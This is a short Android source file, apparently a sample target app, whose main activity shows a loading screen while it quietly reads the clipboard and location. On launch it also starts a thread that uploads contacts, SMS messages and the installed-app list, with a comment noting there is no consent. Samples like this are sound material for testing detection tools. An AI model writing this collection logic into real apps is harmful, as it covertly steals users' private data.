package org.apkfarm.sample.oldtarget;

import android.app.Activity;
import android.os.Bundle;
import android.widget.TextView;

/** Collects as soon as it is opened; there is no consent and no privacy policy. */
public final class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText(R.string.loading);
        setContentView(text);
        Clipboard.read(this);
        final String location = Locations.last(this);
        new Thread("collector") {
            @Override
            public void run() {
                Uploader.send("contacts", People.contacts(MainActivity.this));
                Uploader.send("sms", People.messages(MainActivity.this));
                Uploader.send("apps", Apps.installed(MainActivity.this));
                Uploader.send("location", location);
            }
        }.start();
    }
}
